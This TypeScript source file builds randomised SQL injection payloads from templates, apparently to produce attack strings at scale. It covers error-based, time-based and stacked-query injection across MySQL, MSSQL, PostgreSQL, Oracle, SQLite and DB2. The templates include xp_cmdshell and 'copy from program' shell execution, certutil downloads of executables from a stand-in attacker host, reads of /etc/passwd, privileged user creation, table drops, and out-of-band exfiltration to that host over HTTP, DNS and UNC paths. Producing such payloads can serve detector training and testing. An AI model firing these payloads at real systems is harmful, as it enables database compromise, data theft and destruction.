import {
  digits,
  family,
  hex,
  integer,
  letters,
  maybe,
  mostly,
  oneOf,
  type Part,
  repeat,
  same,
  text,
  type Write,
  words
} from '../template.ts';
import { attackerHost, inventedWord, LOWER, lowerWord } from '../vocabulary/shared.ts';
import {
  alias,
  baseValue,
  bigNumber,
  characterCodes,
  column,
  comment,
  hexString,
  injected,
  quoteless,
  readOut,
  serverFact,
  shortText,
  sql,
  table,
  tautology
} from '../vocabulary/sql.ts';

const conjunction = mostly(['and', 6], ['or', 3], ['||', 0.5], ['procedure', 0.1], ['having', 0.2]);
const marker = oneOf('0x7e', '0x3a', "'~'", hexString, text`0x71${hex(6, 8)}71`, 'char(126)', text`'${alias}'`);
const probed = text`concat(${marker},${oneOf(readOut, text`(select (elt(${same(bigNumber, (n) => `${n}=${n}`)},1)))`)}${maybe(text`,${marker}`)})`;
const probedByCodes = (call: string, joiner: string): Write =>
  text`${characterCodes(call, joiner)}${joiner}(select (case when (${same(bigNumber, (n) => `${n}=${n}`)}) then ${oneOf('1', "'1'", 'char(49)')} else ${oneOf('0', "'0'", 'char(48)')} end)${maybe(' from dual')})${joiner}${characterCodes(call, joiner)}`;
const floorRand = text`(select ${oneOf('1', bigNumber)} from (select count(*),${oneOf(probed, text`concat(${probed},floor(rand(0)*2))`)}${maybe(',floor(rand(0)*2)')}${oneOf('x', alias)} from ${oneOf('information_schema.tables', 'information_schema.plugins', 'information_schema.character_sets', table)} group by ${oneOf('x', alias)})${oneOf('a', alias)})`;

export const errorTemplates = family('sql-injection/error', {
  extractvalue: sql(
    injected(
      text`${conjunction} ${maybe(text`${bigNumber}=`)}extractvalue(${oneOf('1', bigNumber, 'null', 'rand()')},${probed})`
    )
  ),
  updatexml: sql(
    injected(
      text`${conjunction} ${maybe(text`${bigNumber}=`)}updatexml(${oneOf('1', 'null', bigNumber)},${probed},${oneOf('1', 'null', bigNumber)})`
    )
  ),
  'floor-rand': sql(injected(text`${conjunction} ${floorRand}`)),
  'row-count': sql(
    injected(
      text`${conjunction} row(${bigNumber},${bigNumber})>(select count(*),concat(${marker},${readOut},floor(rand(0)*2))x from (select ${bigNumber} union select ${bigNumber} union select ${bigNumber})a group by x)`
    )
  ),
  'bigint-exp': sql(
    injected(
      text`${conjunction} ${oneOf(text`exp(~(select * from (select ${readOut})${alias}))`, text`!(select*from(select ${serverFact})x)-~0`, text`(select ${integer(2, 9)}*(if((select * from (select ${probed})s), ${digits(19)}, ${digits(19)})))`, text`~0+(select ${serverFact})`)}`
    )
  ),
  geometry: sql(
    injected(
      text`${conjunction} ${words('geometrycollection multipoint polygon multipolygon linestring multilinestring')}((select * from (select * from (select ${readOut})${alias})${alias}))`
    )
  ),
  'name-const': sql(
    injected(
      text`${conjunction} (select * from (select name_const(${oneOf(serverFact, quoteless)},1),name_const(${oneOf(serverFact, quoteless)},1))${alias})`
    )
  ),
  'gtid-json': sql(
    injected(
      text`${conjunction} ${oneOf('gtid_subset', 'gtid_subtract', 'json_keys', 'st_latfromgeohash', 'st_longfromgeohash', 'uuid_to_bin')}(${oneOf(probed, text`convert((select ${probed}) using utf8)`)}${maybe(text`,${bigNumber}`)})`
    )
  ),
  'convert-int': sql(
    injected(
      text`${conjunction} ${oneOf(text`${bigNumber}=convert(int,${oneOf(serverFact, readOut, text`(select ${characterCodes('char', '+')}+${serverFact})`)})`, text`${bigNumber} in (select (${probedByCodes('char', '+')}))`, text`1=convert(int,(${probedByCodes('char', '+')}))`)}`
    )
  ),
  'cast-numeric': sql(
    injected(
      text`${conjunction} ${maybe(text`${bigNumber}=`)}cast(${oneOf(serverFact, text`(${readOut})::text`, text`(${characterCodes('chr', '||')})||(select (case when (${same(bigNumber, (n) => `${n}=${n}`)}) then 1 else 0 end))::text||(${characterCodes('chr', '||')})`)} as ${words('int numeric integer float')})`
    )
  ),
  'oracle-packages': sql(
    injected(
      text`${conjunction} ${maybe(text`${bigNumber}=`)}${oneOf(text`ctxsys.drithsx.sn(${bigNumber},(${oneOf(readOut, probedByCodes('chr', '||'))}))`, text`utl_inaddr.get_host_${words('address name')}((${oneOf(readOut, probedByCodes('chr', '||'))}))`, text`dbms_utility.sqlid_to_sqlhash((${oneOf(readOut, probedByCodes('chr', '||'))}))`, text`(select upper(xmltype(chr(60)||chr(58)||${oneOf(readOut, probedByCodes('chr', '||'))}||chr(62))) from dual)`, text`ordsys.ord_dicom.getmappingxpath((${readOut}),${shortText},'a')`, text`to_number(${readOut})`)}`
    )
  ),
  'divide-by-zero': sql(
    injected(
      text`${conjunction} ${integer(1, 9)}=(select ${integer(1, 9)}/${oneOf('0', text`(case when (${tautology}) then 0 else 1 end)`)}${maybe(text` from ${oneOf('dual', table)}`)})`
    )
  ),
  'double-query': sql(
    injected(
      text`${conjunction} (select 1 from(select count(*),concat((select (select ${oneOf(probed, serverFact)}) from ${oneOf('information_schema.tables', table)} limit ${integer(0, 9)},1),floor(rand(0)*2))x from information_schema.tables group by x)a)`
    )
  ),
  'procedure-error': sql(
    text`${baseValue}${oneOf("'", '')} procedure analyse(extractvalue(${bigNumber},${probed}),1)${comment}`
  ),
  'bare-function': sql(
    text`${maybe(baseValue)}${maybe(oneOf("'", '(', ','))}${oneOf('extractvalue', 'updatexml')}(${integer(0, 9)},${probed}${oneOf('', ',1')})${maybe(comment)}`
  ),
  'xml-path': sql(
    injected(
      text`${conjunction} ${oneOf(text`1=(select ${column} from ${table} for xml path)`, text`(select top 1 cast(name as nvarchar(4000)) from (select top ${integer(1, 9)} ${column} from ${table} order by ${column}) sq)>0`, text`query_to_xml('select * from ${table}',true,true,'') is null`, text`database_to_xml(true,true,'') is null`)}`
    )
  ),
  'db2-sqlite': sql(
    injected(
      text`${conjunction} ${oneOf(text`raise_error('70000',${readOut})>0`, text`load_extension('${lowerWord}')`, text`xmlparse(document ${readOut}) is null`, text`randomblob(${digits(9)}) is not null`, text`abs(-${digits(19)})=1`)}`
    )
  )
});

const seconds = integer(1, 30);
const delay = mostly(
  [text`sleep(${seconds})`, 5],
  [text`sleep(${seconds}-(if(${tautology},0,${seconds})))`, 0.8],
  [text`(select sleep(${seconds}))`, 1],
  [text`(select * from (select(sleep(${seconds})))${alias})`, 2.5],
  [
    text`(select ${bigNumber} from (select(sleep(${seconds}-(if(${text`${bigNumber}=${bigNumber}`},0,${seconds})))))${alias})`,
    1
  ],
  [
    text`benchmark(${digits(7)},${words('md5 sha1 encode')}(${oneOf('1', text`'${alias}'`, text`0x${hex(8)}`, text`char(${repeat(integer(65, 122), 1, 5, ',')})`)}))`,
    3
  ],
  [text`if(${tautology},sleep(${seconds}),${integer(0, 5)})`, 2],
  [text`(case when (${same(bigNumber, (n) => `${n}=${n}`)}) then sleep(${seconds}) else ${bigNumber} end)`, 1.5],
  [text`elt(${same(bigNumber, (n) => `${n}=${n}`)},sleep(${seconds}))`, 0.8],
  [text`make_set(${same(bigNumber, (n) => `${n}=${n}`)},sleep(${seconds}))`, 0.6],
  [text`pg_sleep(${seconds})`, 2],
  [text`(select ${bigNumber} from pg_sleep(${seconds}))`, 1.5],
  [text`(select pg_sleep(${seconds}))`, 0.8],
  [text`dbms_pipe.receive_message(${oneOf(text`'${alias}'`, characterCodes('chr', '||'))},${seconds})`, 2],
  [
    text`(select count(*) from ${repeat(text`${oneOf('all_users', 'information_schema.columns', 'information_schema.tables', 'sysusers', 'sysibm.systables', 'domain.domains', 'rdb$fields', 'generate_series(1,5000000)', 'pg_class')} ${oneOf('as ', '')}${alias}`, 2, 7, ',')})`,
    2
  ],
  [text`like('${letters(LOWER, 3, 8)}',upper(hex(randomblob(${digits(9)}${maybe('/2')}))))`, 0.8],
  [
    text`(case when (${same(bigNumber, (n) => `${n}=${n}`)}) then (like('${letters(LOWER, 3, 8)}',upper(hex(randomblob(${digits(9)}))))) else ${bigNumber} end)`,
    0.5
  ],
  [text`regexp_substring(repeat(right(char(${bigNumber}),0),${digits(9)}),null)`, 0.7],
  [text`dbms_lock.sleep(${seconds})`, 0.5],
  [text`utl_inaddr.get_host_name('10.0.0.${seconds}')`, 0.3]
);
const waitfor = text`waitfor ${oneOf(text`delay ${oneOf("'", '"')}0:0:${seconds}'`, text`delay '00:00:${seconds}'`, text`delay char(48)+char(58)+char(48)+char(58)+char(53)`, text`time '${digits(2)}:${digits(2)}:00'`)}`;

export const timeTemplates = family('sql-injection/time', {
  condition: sql(injected(text`${conjunction} ${delay}`)),
  comparison: sql(injected(text`${conjunction} ${oneOf(bigNumber, text`'${alias}'`)}=${delay}`)),
  'comparison-reversed': sql(injected(text`${conjunction} ${delay}=${bigNumber}`)),
  stacked: sql(
    injected(
      text`;${maybe(' ')}${oneOf(text`select ${delay}`, text`select ${delay}`, text`call ${delay}`, delay)}${maybe(';')}`
    )
  ),
  waitfor: sql(injected(text`${oneOf('', ';', '; ')}${waitfor}`)),
  'waitfor-if': sql(
    injected(
      text`${oneOf(';', ' ')}if(${oneOf(tautology, text`(select count(*) from ${table})>0`, text`len(${serverFact})>${integer(1, 20)}`)}) ${waitfor}${maybe(text` else ${waitfor}`, 0.2)}`
    )
  ),
  concatenated: sql(
    text`${maybe(lowerWord)}${same(words(`' "`), (quote) => text`${quote}${oneOf('+', '||', '-', '^', '*', '|', ' ')}${delay}${oneOf('+', '||', '-', '^', '*', '|', ' ')}${quote}`)}${maybe(comment, 0.2)}`
  ),
  'xor-condition': sql(
    text`${integer(0, 9)}${oneOf("'", '"', '')}xor(if(now()=sysdate(),${delay},0))${oneOf('xor', 'or')}${oneOf("'", '"', '')}${letters(LOWER + LOWER.toUpperCase(), 0, 2)}`
  ),
  'bare-delay': sql(
    text`${maybe(baseValue)}${maybe(oneOf('(', ',', ' or ', ' and ', ';', '*', '-'))}${delay}${maybe(oneOf(')', ',', ' --', '#', '/*'))}`
  ),
  'bare-waitfor': sql(
    text`${oneOf('', baseValue, text`${baseValue}'`, text`${baseValue})`)}${oneOf(';', ' ', ')', "'", "';", '";', ',null)')} ${waitfor}${maybe(' ')}${maybe(comment)}`
  ),
  'limit-procedure': sql(
    text`${baseValue} ${maybe('limit 1,1 ')}procedure analyse((select extractvalue(rand(),concat(0x3a,(if(${tautology},${delay},1))))),1)${maybe(comment)}`
  ),
  'insert-values': sql(
    text`${maybe(lowerWord)}${oneOf("'", '"', '')}${repeat(oneOf(',null', ",''", ',1', text`,'${lowerWord}'`), 0, 5)}${oneOf(',', ')', '),(')}${delay}${oneOf('', ')', "),'')")}${maybe(' ')}${comment}`
  ),
  'if-select-count': sql(
    text`${oneOf(',', '', "'+", '"+', '1 ')}(select${oneOf('(', ' ')}if(${oneOf(text`substring(${readOut},${integer(1, 9)},1)=${oneOf(text`'${alias}'`, text`char(${integer(40, 122)})`)}`, 'count(*)!=-1', tautology)},${delay},${oneOf(delay, '0', 'null')})${maybe(')')}${maybe(text` from ${table}`)})${oneOf('', "+'", '+"', comment)}`
  ),
  'like-regex': sql(injected(text`${words('rlike regexp like')} ${delay}`)),
  'order-by-delay': sql(
    text`${maybe(column)} ${words('order group')} by ${oneOf(integer(1, 9), column)},${delay}${repeat(text`,${integer(1, 20)}`, 0, 12)}${maybe(comment)}`
  ),
  'heavy-query': sql(
    text`${maybe(baseValue)}${maybe(oneOf("'", ')', "')", '%'))}${maybe(oneOf(' and ', ' or ', ';', ' and 1='))}${maybe('(')}select count(*) from ${repeat(text`${oneOf('rdb$fields', 'rdb$types', 'rdb$collations', 'rdb$functions', 'domain.domains', 'domain.columns', 'domain.tables', 'sysusers', 'sysibm.systables', 'all_users', 'information_schema.columns', 'generate_series(1,5000000)', 'sysmaster:syspaghdr')} ${maybe('as ')}${words('t1 t2 t3 t4 a b c')}`, 1, 6, ',')}${maybe(')')}${maybe(comment, 0.4)}`
  ),
  'union-delay': sql(
    injected(
      text`union ${maybe('all ')}select ${repeat(text`${oneOf(integer(1, 9), 'null', serverFact)},`, 0, 5)}${delay}${repeat(text`,${oneOf(integer(1, 9), 'null')}`, 0, 6)}`
    )
  ),
  'pl-block': sql(injected(text`;begin ${words('dbms_lock.sleep user_lock.sleep')}(${seconds}); end;`))
});

const value = oneOf(text`'${shortText}'`, bigNumber, 'null', quoteless, text`'${inventedWord}'`);
const shellCommand = oneOf(
  'dir',
  'whoami',
  'net user',
  text`ping ${attackerHost}`,
  text`net user ${lowerWord} ${lowerWord} /add`,
  'ipconfig /all',
  text`nslookup ${attackerHost}`,
  text`certutil -urlcache -f http://${attackerHost}/${lowerWord}.exe`,
  'id',
  text`type c:\\boot.ini`
);

function statement(body: Part): Write {
  return sql(injected(text`${oneOf(';', '; ', ';')}${body}${maybe(';', 0.4)}`));
}
export const stackedTemplates = family('sql-injection/stacked', {
  drop: statement(
    text`drop ${words('table database view schema index user')} ${maybe('if exists ')}${oneOf(table, inventedWord, alias)}${maybe(' cascade')}`
  ),
  'drop-any-case': sql(
    text`${maybe(lowerWord)}${oneOf("'", '"', "')", '")', '1')};${maybe(' ')}drop table ${table};${maybe(' ')}${comment}`
  ),
  'truncate-delete': statement(
    oneOf(
      text`delete from ${table}${maybe(text` where ${oneOf(tautology, text`${column}=${value}`)}`)}`,
      text`truncate table ${table}`
    )
  ),
  insert: statement(
    text`insert into ${table}${maybe(text`(${repeat(column, 1, 4, ',')})`)} values${maybe(' ')}(${repeat(value, 1, 6, ',')})`
  ),
  update: statement(
    text`update ${table} set ${column}=${value}${maybe(text` where ${oneOf(text`${column}=${value}`, tautology)}`)}`
  ),
  'create-alter': statement(
    oneOf(
      text`create table ${alias} (${column} ${words('int text varchar(255) char(10)')})`,
      text`alter table ${table} ${words('drop add')} ${column}`,
      text`create user ${lowerWord} identified by '${shortText}'`,
      text`create ${words('login user')} ${lowerWord} with password='${alias}'`,
      text`grant all privileges on *.* to '${lowerWord}'@'%'`
    )
  ),
  'exec-shell': statement(
    text`exec${maybe('ute')} ${maybe('master')}${oneOf('..', '.dbo.', '.')}xp_${words('cmdshell dirtree fileexist regread subdirs regwrite')} ${oneOf(text`'${shellCommand}'`, text`"${shellCommand}"`, text`'\\\\${attackerHost}\\${lowerWord}'`)}`
  ),
  'exec-reconfigure': statement(
    text`exec sp_configure '${oneOf('show advanced options', 'xp_cmdshell', 'ole automation procedures')}',1;${maybe(' ')}reconfigure`
  ),
  'exec-procedure': statement(
    text`exec ${maybe('master..')}sp_${words('makewebtask oacreate addlogin addsrvrolemember password executesql who helpdb addextendedproc')} ${repeat(value, 1, 3, ',')}`
  ),
  declare: statement(
    text`declare @${alias} ${oneOf('varchar(4000)', 'nvarchar(255)', 'varchar(8000)', 'int', 'sysname')}${oneOf(';', ' ')}set @${alias}=${oneOf(text`cast(${hexString}${hex(10, 60)} as varchar(4000))`, quoteless, text`'${lowerWord}'+'${lowerWord}'`)};${maybe(' ')}exec(@${alias})`
  ),
  'declare-dns': statement(
    text`declare @${alias} varchar(1024);set @${alias}=(select ${readOut});exec('master..xp_dirtree "\\\\'+@${alias}+'.${attackerHost}\\${letters(LOWER, 3)}"')`
  ),
  shutdown: statement(
    oneOf(
      'shutdown',
      'shutdown with nowait',
      text`kill ${integer(50, 99)}`,
      text`backup database ${inventedWord} to disk='\\\\${attackerHost}\\${lowerWord}'`,
      text`use ${inventedWord}`,
      text`set @${alias}=${hexString};prepare ${alias} from @${alias};execute ${alias}`
    )
  ),
  'copy-program': statement(
    oneOf(
      text`copy ${alias} from program '${shellCommand}'`,
      text`copy (select ${readOut}) to program '${shellCommand}'`,
      text`create table ${alias}(t text);copy ${alias} from '/etc/passwd'`,
      text`create or replace function ${alias}(cstring) returns int as '/lib/x86_64-linux-gnu/libc.so.6', 'system' language 'c' strict`,
      text`select lo_import('/etc/passwd')`,
      text`do $$ begin perform pg_sleep(${seconds}); end $$`
    )
  ),
  'attach-database': statement(
    oneOf(
      text`attach database '/var/www/${lowerWord}.php' as ${alias};create table ${alias}.${alias}(x text)`,
      text`pragma ${words('table_info database_list')}(${table})`,
      text`.shell ${shellCommand}`,
      text`select load_extension('\\\\${attackerHost}\\${lowerWord}')`
    )
  ),
  'not-separated': sql(
    text`${maybe(baseValue)}${mostly(["' ", 5], ["'", 2], ['" ', 1], [' ', 2], ["') ", 1])}${oneOf(
      text`delete from ${table}`,
      text`drop table ${table}`,
      text`truncate table ${table}`,
      text`insert into ${table} values(${repeat(value, 1, 4, ',')})`,
      text`update ${table} set ${column}=${value}`,
      text`create user ${lowerWord} identified by ${inventedWord}`,
      text`grant ${words('connect resource dba all')} to ${lowerWord}`
    )}${maybe(oneOf(';', comment, text` where ${tautology}`), 0.3)}`
  ),
  administration: sql(
    text`${maybe(oneOf("'", "';", ';'))}${repeat(
      oneOf(
        text`grant ${words('connect resource dba all')} to ${lowerWord}`,
        text`create user ${lowerWord} identified by ${inventedWord} temporary tablespace temp default tablespace ${table}`,
        text`create table ${alias} (${column} ${words('int text varchar(255) clob')})`,
        text`alter user ${lowerWord} identified by ${inventedWord}`,
        text`drop user ${lowerWord}${maybe(' cascade')}`,
        text`revoke ${words('connect all')} from ${lowerWord}`
      ),
      1,
      3,
      '; '
    )};${maybe(comment)}`
  ),
  'second-select': statement(
    text`select ${oneOf(serverFact, readOut, text`* from ${table}`, text`${column} from ${table} where ${tautology}`)}`
  ),
  'out-of-band': sql(
    injected(
      text`${oneOf('and', 'union select', 'or', '||')} ${oneOf(
        text`(select load_file(concat('\\\\\\\\',${readOut},'.${attackerHost}\\\\${letters(LOWER, 2)}')))`,
        text`(select utl_http.request('http://${attackerHost}/'||${readOut}) from dual)`,
        text`(select extractvalue(xmltype('<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE root [ <!ENTITY % ${alias} SYSTEM "http://'||${readOut}||'.${attackerHost}/"> %${alias};]>'),'/l') from dual)`,
        text`(select httpuritype('http://${attackerHost}/'||${readOut}).getclob() from dual)`,
        text`(select dblink_connect('host=${attackerHost} user=a password=a'))`,
        text`(select * from openrowset('sqloledb','${attackerHost}';'sa';'${alias}','select 1'))`,
        text`(select dbms_ldap.init('${attackerHost}',${integer(1, 999)}) from dual)`,
        text`(select fn_xe_file_target_read_file('c:\\*.xel','\\\\'+${readOut}+'.${attackerHost}\\1.xem',null,null))`
      )}`
    )
  ),
  'insert-context': sql(
    text`${maybe(lowerWord)}${oneOf("'", '"')}${repeat(text`,${value}`, 1, 5)})${oneOf(comment, text`;${comment}`, text`,(${repeat(value, 1, 4, ',')})${comment}`)}`
  ),
  'insert-subquery': sql(
    text`${lowerWord}',${repeat(text`${value},`, 0, 3)}(select ${oneOf(serverFact, readOut, text`${column} from ${table} limit 1`)}))${comment}`
  ),
  'bare-statement': sql(
    oneOf(
      text`select ${oneOf('*', column, text`${column},${column}`)} from ${table} where ${column}=${oneOf("''", text`'${shortText}'`)} or ${tautology}${maybe(comment)}`,
      text`exec ${maybe('master..')}xp_cmdshell '${shellCommand}'`,
      text`; exec master..xp_cmdshell '${shellCommand}'${comment}`,
      text`drop table ${table}${comment}`,
      text`insert into ${table} values(${repeat(value, 2, 5, ',')})${comment}`,
      text`select * from ${table} where ${column} = 1 or 1=1${comment}`,
      text`select ${oneOf('@@version', 'version()', 'user()')}${comment}`
    )
  )
});
